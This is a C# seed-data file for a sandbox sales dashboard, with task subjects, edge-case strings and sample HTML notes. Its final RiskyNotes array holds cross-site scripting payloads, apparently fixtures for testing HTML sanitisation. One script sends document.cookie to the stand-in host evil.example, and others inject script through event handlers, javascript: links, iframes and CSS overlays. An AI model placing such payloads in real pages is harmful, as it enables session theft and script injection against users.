namespace Dashboard.Sandbox.World.Seed;

/// <summary>Sentences of a sales day. {c} is a contact's first name, {n} the full name, {o} the company, {d} the deal, {p} a product.</summary>
public static class SubjectWords
{
    public static readonly Dictionary<string, string[]> ByType = new(StringComparer.Ordinal)
    {
        ["CALL"] =
        [
            "Call {c} about the {p} quote", "Call {n}: decision on {d}", "Ring {o} reception, ask who owns purchasing", "Return {c}'s missed call", "Discovery call with {n}",
            "Call {c} to confirm Thursday's visit", "Pricing call: {o}", "Follow-up call after the demo with {o}", "Ask {c} for two references", "Check in with {n} after go-live",
        ],
        ["EMAIL"] =
        [
            "Send revised MSA to legal at {o}", "E-mail {c} the security questionnaire", "Send {o} the {p} proposal", "Reply to {n} about payment terms", "Send meeting notes to {c}",
            "Forward case study to {n}", "Nudge {c} on the open order form", "Thank {n} for the introduction", "Send updated quote: {d}", "Share onboarding plan with {o}",
        ],
        ["TODO"] =
        [
            "Prepare quarterly review for {o}", "Update forecast for {d}", "Get discount approved for {o}", "Research {o} before the first call", "Add missing contacts at {o}",
            "Check contract dates: {d}", "Draft the {p} business case for {n}", "Book a room for the {o} workshop", "Clean up duplicates of {n}", "Collect usage figures for {o}",
            "Ask finance about {o}'s late invoice", "Write hand-over notes: {d}",
        ],
        ["LINKED_IN"] = ["Connect with {n}", "Comment on {c}'s post about hiring", "Message {n} about the {p}", "Find the new buyer at {o}"],
        ["MEETING"] = ["Demo for {o}", "Kick-off with {n}", "Lunch with {c}", "Contract review: {d}", "On-site visit at {o}"],
        ["POSTAL_MAIL"] = ["Post signed copies to {o}", "Send a welcome box to {c}"],
    };

    public static readonly string[] Unusual =
    [
        "اتصل بالسيدة ليلى بخصوص تجديد العقد السنوي", "לשלוח הצעת מחיר מעודכנת ליעל לפני יום שלישי", "🎉 Celebrate the {o} signature 🎂🥂", "<script>alert('subject')</script> check the form of {o}",
        "Prepare everything for {o}: agenda, slides, printed hand-outs, name badges, parking permits, dietary wishes, projector cable, spare projector cable, guest network password, room plan and the list of guests who have not answered yet",
        "Re: Re: Fwd: AW: {d} — \"final\" version (3) & comments", "x", "CALL {o}!!! URGENT!!!",
    ];

    public static readonly string[] Notes =
    [
        "<p>{n} asked for a call back. Best time is <strong>after lunch</strong>.</p>",
        "<p>Open points:</p><ul><li>Payment terms: 30 or 45 days</li><li>Named contact at {o}</li><li>Start date</li></ul>",
        "<p>Last mail: <a href=\"https://mail.example/t/48213\">thread with {c}</a></p><p>They compare us with two others. Keep it short.</p>",
        "<ol><li>Check the figures</li><li>Ask {c} to confirm</li><li>Update {d}</li></ol>",
        "<p><em>From the demo:</em> {c} liked the reports, was unsure about the import. <br>Bring the import guide.</p><blockquote>“If it saves us a day a week we sign.”</blockquote>",
        "<div style=\"color:#33475b;font-size:14px\"><p>Budget: <b>12,400</b><br/>Decision: end of month</p></div>",
        "<h3>Agenda</h3><p>1. Numbers&nbsp;&nbsp;2. Plan&nbsp;&nbsp;3. Questions</p><table><tbody><tr><td>Seats</td><td>40</td></tr><tr><td>Term</td><td>24 months</td></tr></tbody></table>",
        "Plain text without any markup, as an import leaves it. Ask {c} & {o} about <5% discount.",
    ];

    /// <summary>What must never run or leak in a reader's browser.</summary>
    public static readonly string[] RiskyNotes =
    [
        "<p>Call {c}</p><script>window.hacked = true; fetch('https://evil.example/?c=' + document.cookie)</script>",
        "<p>See picture <img src=\"x\" onerror=\"window.hacked=true\"></p>",
        "<p onclick=\"window.hacked=true\">Click</p><a href=\"javascript:window.hacked=true\">contract</a><iframe src=\"https://evil.example\"></iframe>",
        "<style>body{display:none}</style><p style=\"position:fixed;inset:0;background:url(https://evil.example/p.png)\">Over everything</p>",
        "<svg><animate onbegin=\"window.hacked=true\" attributeName=\"x\" dur=\"1s\"></animate></svg><p>Unclosed <b>bold <i>italic</p>",
    ];
}
